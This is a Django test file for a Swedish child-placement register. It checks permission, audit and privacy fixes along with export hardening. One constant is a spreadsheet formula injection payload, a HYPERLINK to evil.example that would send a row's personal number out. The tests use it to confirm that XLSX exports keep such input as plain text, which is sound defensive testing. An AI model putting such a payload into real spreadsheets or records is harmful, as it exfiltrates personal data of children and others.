"""Holes an attacker's review of issue 11's work found (school start by Lärteamet, the
register extract, a child's case worker, mergers), each as the attacker or the user met it.
Each test failed on the code before its fix."""

from __future__ import annotations

import html
import io
import re
import zipfile
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from conftest import TEST_NUMBERS, World, place, register
from obruten.audit.models import AuditEvent
from obruten.casework import services as casework
from obruten.casework.models import Transfer
from obruten.followup import services as followup
from obruten.followup.models import ChainStep, ChainStepRecord
from obruten.operations import extract
from obruten.register import services as register_services
from obruten.register.models import Child, District, Municipality
from obruten.teaching import services as teaching

TODAY = timezone.localdate()


def _client(world: World, role: str) -> Client:
    client = Client()
    client.force_login(world.users[role])
    return client


def test_larteamet_records_the_school_start_of_a_child_new_in_protected_housing(world: World) -> None:
    """Recording a school start ticks the chain's school-start step; Lärteamet, which may
    record the school start but no other step, got 403 and nothing was saved."""
    case_worker = world.users["case_worker"]
    child = register(TEST_NUMBERS[4], "Dana", "farsta", case_worker)
    placement = place(
        child, "skyddat_boende", "farsta", TODAY - timedelta(days=4), case_worker, school_change=True
    )
    url = reverse("register:school_start", kwargs={"child_id": child.pk, "placement_id": placement.pk})
    response = _client(world, "larteamet").post(
        url, {"taught_by_larteamet": "on", "first_school_day": TODAY.isoformat()}
    )
    assert response.status_code == 302
    step = ChainStep.objects.get(chain_model__is_active=True, is_school_start=True)
    record = ChainStepRecord.objects.get(placement=placement, step=step)
    assert (record.date, record.recorded_by) == (TODAY, world.users["larteamet"])
    assert AuditEvent.objects.filter(object_type="chainsteprecord", object_id=record.pk).exists()
    other_step = ChainStep.objects.filter(chain_model__is_active=True, is_school_start=False).first()
    assert other_step is not None
    with pytest.raises(PermissionDenied):  # still no other step of the chain
        followup.record_chain_step(
            actor=world.users["larteamet"],
            placement=placement,
            step=other_step,
            status=ChainStepRecord.Status.DONE,
            day=TODAY,
            via="test",
        )


def test_the_register_extract_hides_teaching_by_larteamet_like_the_school(world: World) -> None:
    """The child's page hides "Undervisning av Lärteamet" where it hides the school; the
    enhetschef's extract of a protected child showed it."""
    register_services.record_school_start(
        actor=world.users["larteamet"],
        placement=world.protected_placement,
        school=None,
        taught_by_larteamet=True,
        first_school_day=world.protected_placement.start_date,
        via="test",
    )

    def shown(role: str) -> str:
        taken = extract.take_extract(world.users[role], world.protected.pk, via="test")
        section = next(s for s in taken.sections if "undervisning av Lärteamet" in s.headers)
        return section.rows[0][section.headers.index("undervisning av Lärteamet")]

    assert shown("unit_manager") == "Skyddad uppgift"
    assert shown("case_worker") == "Ja"  # the responsible case worker sees it


def test_a_new_child_cannot_be_put_in_another_case_workers_caseload(world: World) -> None:
    """Making someone responsible gives them the child's whereabouts: it is the
    enhetschef's (casework.assign_case_worker), not a side effect of registering a child
    through any entry point that passes ``case_worker``."""
    data = register_services.ChildData(
        personal_number=TEST_NUMBERS[4],
        first_name="Dana",
        last_name="Testsson",
        sex="F",
        home_municipality=Municipality.objects.get(code="0180"),
        district=District.objects.get(code="farsta"),
        case_worker=world.users["case_worker_bromma"],
    )
    with pytest.raises(PermissionDenied):
        register_services.register_child(actor=world.users["case_worker"], data=data, via="test")
    assert not Child.objects.filter(personal_number=TEST_NUMBERS[4]).exists()
    data.case_worker = world.users["case_worker"]  # oneself, as the form does
    child = register_services.register_child(actor=world.users["case_worker"], data=data, via="test")
    assert child.case_worker == world.users["case_worker"]


def test_a_merger_audits_the_transfers_it_refuses_or_redirects(db: None) -> None:
    """apply-mergers changed waiting transfers with a bulk update and no audit row."""
    leaving = register(TEST_NUMBERS[3], "Fia", "rinkeby-kista", None)  # type: ignore[arg-type]
    place(leaving, "hvb", "rinkeby-kista", date(2023, 1, 10), None)  # type: ignore[arg-type]
    arriving = register(TEST_NUMBERS[4], "Esra", "farsta", None)  # type: ignore[arg-type]
    place(arriving, "hvb", "farsta", date(2023, 1, 10), None)  # type: ignore[arg-type]
    refused, redirected = (
        casework.start_transfer(
            actor=None,
            child=child,
            to_district=District.objects.get(code=code),
            effective_date=date(2023, 6, 1),
            note="",
            via="test",
        )
        for child, code in [(leaving, "bromma"), (arriving, "rinkeby-kista")]
    )
    call_command("apply_mergers", "--date", "2023-07-01")
    refused.refresh_from_db()
    redirected.refresh_from_db()
    assert refused.status == Transfer.Status.REFUSED
    assert (redirected.status, redirected.to_district.code) == (Transfer.Status.PENDING, "jarva")
    for transfer, field in [(refused, "status"), (redirected, "to_district")]:
        event = AuditEvent.objects.get(
            object_type="transfer", object_id=transfer.pk, via="casework:apply_mergers"
        )
        assert (event.child_id, list(event.changes)) == (transfer.child_id, [field])


def test_a_team_chosen_by_a_superscript_digit_is_not_a_500(world: World) -> None:
    """``"²".isdigit()`` is true but ``int("²")`` fails: /arbetsgrupper/?grupp=² gave a 500."""
    client = _client(world, "unit_manager")
    client.raise_request_exception = False
    for value in ["²", "١", "9" * 40]:
        assert client.get(reverse("teams:manage"), {"grupp": value}).status_code in {200, 404}
        assert client.post(reverse("teams:manage"), {"team": value, "name": "x"}).status_code in {200, 404}


def test_a_school_chosen_by_a_superscript_digit_is_not_a_500(world: World) -> None:
    """The school-start form's school search read ``"²"`` as a number and gave a 500."""
    client = _client(world, "case_worker")
    client.raise_request_exception = False
    kwargs = {"child_id": world.own.pk, "placement_id": world.own_placement.pk}
    url = reverse("register:school_start", kwargs=kwargs)
    data = {"school": "²", "school_search": "Hemlig", "first_school_day": TODAY.isoformat()}
    assert client.post(url, data).status_code == 200
    assert client.post(url, data | {"school": "١"}).status_code != 500  # an Arabic-Indic 1 is a 1


FORMULA = '=HYPERLINK("https://evil.example/?"&B1,"Öppna")'


def _formulas(workbook: bytes) -> list[str]:
    """The formulas of every sheet: a cell Excel would compute, not show."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return [
            formula for name in sheets for formula in re.findall(r"<f>(.*?)</f>", archive.read(name).decode())
        ]


def test_text_typed_into_a_record_is_never_a_formula_in_an_export(world: World) -> None:
    """xlsxwriter writes a string that starts with "=" as a formula: a name, a plan or a
    child's own answer became a live formula (a link that sends the row's personnummer
    away) in the breach list's export and the register extract."""
    case_worker = world.users["case_worker"]
    child = register(TEST_NUMBERS[4], "Dana", "farsta", case_worker)
    Child.objects.filter(pk=child.pk).update(last_name=FORMULA)  # as typed on the form or imported
    place(child, "hvb", "farsta", TODAY - timedelta(days=20), case_worker, school_change=True)
    followup.record_follow_up(
        actor=case_worker,
        child=child,
        via="test",
        data=followup.FollowUpData(kind="overvagande", date=TODAY, plan=FORMULA),
    )
    breaches = _client(world, "unit_manager").get(reverse("register:school_start_breaches_export"))
    assert breaches.status_code == 200
    assert f"{FORMULA}, Dana" in _shared_strings(breaches.content)
    assert _formulas(breaches.content) == []
    taken = extract.take_extract(case_worker, child.pk, via="test")
    assert _formulas(extract.to_xlsx(taken)) == []


def _shared_strings(workbook: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return html.unescape(archive.read("xl/sharedStrings.xml").decode())


def test_a_reason_typed_into_the_audit_log_is_never_a_formula_in_its_download(world: World) -> None:
    """The trail's XLSX writes each event's reason (undoing a step, refusing a transfer,
    lowering protection) as typed: one starting with "=" became a live formula."""
    step = ChainStep.objects.get(chain_model__is_active=True, is_school_start=True)
    followup.undo_chain_step(
        actor=world.users["case_worker"], placement=world.own_placement, step=step, reason=FORMULA, via="test"
    )
    response = _client(world, "unit_manager").get(
        reverse("audit:child_trail_xlsx", kwargs={"child_id": world.own.pk})
    )
    assert response.status_code == 200
    assert FORMULA in _shared_strings(response.content)
    assert _formulas(response.content) == []


def test_the_register_extract_holds_the_case_history_and_teaching_weeks(world: World) -> None:
    """GDPR art. 15: the extract is everything Obruten holds on the child. Issue 11's
    transfers, responsibility periods and Lärteamet's weeks were left out; the weeks stay
    out for those the teaching page refuses, as the school does."""
    casework.start_transfer(
        actor=world.users["case_worker"],
        child=world.protected,
        to_district=District.objects.get(code="bromma"),
        effective_date=TODAY,
        note="Familjen flyttar",
        via="test",
    )
    casework.assign_case_worker(
        actor=world.users["unit_manager"],
        child=world.protected,
        case_worker=world.users["case_worker_2"],
        start=TODAY,
        via="test",
    )
    teaching.record_teaching_week(
        actor=world.users["larteamet"],
        child=world.protected,
        week=TODAY - timedelta(days=TODAY.weekday()),
        hours=Decimal("12.5"),
        via="test",
    )

    def sections(role: str) -> dict[str, list[list[str]]]:
        taken = extract.take_extract(world.users[role], world.protected.pk, via="test")
        return {section.title: section.rows for section in taken.sections}

    responsible = sections("case_worker_2")
    assert "Familjen flyttar" in responsible["Överflyttningar"][0]
    assert len(responsible["Ansvarsperioder"]) == 2  # cw_farsta until yesterday, cw2_farsta from today
    assert "12,5" in responsible["Undervisningsveckor"][0]
    assert "Undervisningsveckor" not in sections("unit_manager")


def test_the_chain_step_service_refuses_what_only_the_page_used_to_refuse(world: World) -> None:
    """The API calls the same service as the page: a placement without a change of school
    has no chain, and a step of a chain not in use cannot be marked."""
    case_worker = world.users["case_worker"]
    today = timezone.localdate()
    active = ChainStep.objects.filter(chain_model__is_active=True).first()
    inactive = ChainStep.objects.filter(chain_model__is_active=False).first()
    assert active is not None and inactive is not None
    no_change = place(
        world.own,
        "hvb",
        "farsta",
        today - timedelta(days=200),
        case_worker,
        end_date=today - timedelta(days=100),
    )
    before = ChainStepRecord.objects.count()
    for placement, step, field in [(no_change, active, "placement"), (world.own_placement, inactive, "step")]:
        with pytest.raises(ValidationError) as refused:
            followup.record_chain_step(
                actor=case_worker, placement=placement, step=step, status="done", day=today, via="test"
            )
        assert field in refused.value.message_dict
    assert ChainStepRecord.objects.count() == before
